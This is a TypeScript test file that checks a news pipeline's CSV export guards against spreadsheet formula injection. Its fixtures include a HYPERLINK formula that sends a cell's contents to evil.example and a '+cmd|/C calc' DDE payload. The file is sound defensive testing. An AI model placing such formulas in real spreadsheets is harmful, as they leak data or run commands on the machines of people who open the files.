/**
 * CSV cells beginning with =, +, -, @ (spreadsheet formula injection): exact by default, prefixed
 * with an apostrophe in free-text columns with --excel-safe; numbers and fixed-form values never.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { excelSafeRows } from '../pipeline/export/excel-safe.ts';
import { runExport } from '../pipeline/export/stage.ts';
import { TABLES } from '../pipeline/export/tables.ts';
import { runExtract } from '../pipeline/extract/stage.ts';
import { runNormalize } from '../pipeline/normalize/stage.ts';
import { runValidate } from '../pipeline/validate/stage.ts';

const tmp = mkdtempSync(join(tmpdir(), 'news-facts-excel-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
const RECORD = {
  id: '-2+3',
  headline: FORMULA,
  publisher: '@SUM(1+1)',
  author: ['+cmd|/C calc!A0'],
  text: '“=1+2 is all it takes,” said Jane Doe, a security researcher, on Monday.\nThe council in Leeds said it had fixed the problem in its spreadsheets.',
};

describe('excelSafeRows', () => {
  const articles = TABLES.find((t) => t.name === 'articles')!;
  const col = (name: string): number => articles.columns.findIndex((c) => c.name === name);
  it('prefixes free-text cells that a spreadsheet would run, and nothing else', () => {
    const row = articles.columns.map(() => undefined) as (string | number | undefined)[];
    row[col('headline')] = '=1+1';
    row[col('publisher')] = '\tTab';
    row[col('author')] = 'Jane Doe';
    row[col('word_count')] = -5;
    row[col('url')] = '-not-a-formula-but-guarded';
    const [safe] = excelSafeRows(articles.columns)([row]);
    expect(safe[col('headline')]).toBe("'=1+1");
    expect(safe[col('publisher')]).toBe("'\tTab");
    expect(safe[col('author')]).toBe('Jane Doe');
    expect(safe[col('word_count')]).toBe(-5);
    expect(safe[col('url')]).toBe("'-not-a-formula-but-guarded");
  });
  it('leaves columns with a fixed form (pattern or closed set) alone', () => {
    const row = articles.columns.map(() => undefined) as (string | undefined)[];
    row[col('article_id')] = '-0123456789abcde';
    row[col('reference_date_source')] = '=metadata';
    const [safe] = excelSafeRows(articles.columns)([row]);
    expect(safe[col('article_id')]).toBe('-0123456789abcde');
    expect(safe[col('reference_date_source')]).toBe('=metadata');
  });
});

describe('export --excel-safe', () => {
  const out = join(tmp, 'out');
  const tables = (): Record<string, Record<string, string>[]> =>
    Object.fromEntries(
      ['articles', 'quotes'].map((t) => [t, parse(readFileSync(join(out, 'csv', `${t}.csv`), 'utf8'), { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[]]),
    );
  let exact: Record<string, Record<string, string>[]>;
  let safe: Record<string, Record<string, string>[]>;

  beforeAll(async () => {
    mkdirSync(join(tmp, 'in'));
    writeFileSync(join(tmp, 'in/records.ndjson'), `${JSON.stringify(RECORD)}\n`);
    const reports = [await runNormalize([join(tmp, 'in')], out), await runExtract(out, { jobs: 1, quiet: true }), runValidate(out)];
    expect(reports.flatMap((r) => r.failures)).toEqual([]);
    expect((await runExport(out)).failures).toEqual([]);
    exact = tables();
    expect((await runExport(out, { excelSafe: true })).failures).toEqual([]);
    safe = tables();
  });

  it('by default writes every cell exactly as the input has it', () => {
    expect(exact.articles[0]).toMatchObject({ source: '-2+3', headline: FORMULA, publisher: '@SUM(1+1)', author: '+cmd|/C calc!A0' });
    expect(exact.quotes[0].text).toBe('=1+2 is all it takes,');
  });

  it('with --excel-safe prefixes an apostrophe to those cells, numbers and ids unchanged', () => {
    expect(safe.articles[0]).toMatchObject({ source: "'-2+3", headline: `'${FORMULA}`, publisher: "'@SUM(1+1)", author: "'+cmd|/C calc!A0" });
    expect(safe.articles[0].article_id).toBe(exact.articles[0].article_id);
    expect(safe.articles[0].word_count).toBe(exact.articles[0].word_count);
    expect(safe.quotes[0]).toEqual({ ...exact.quotes[0], text: "'=1+2 is all it takes," });
  });
});
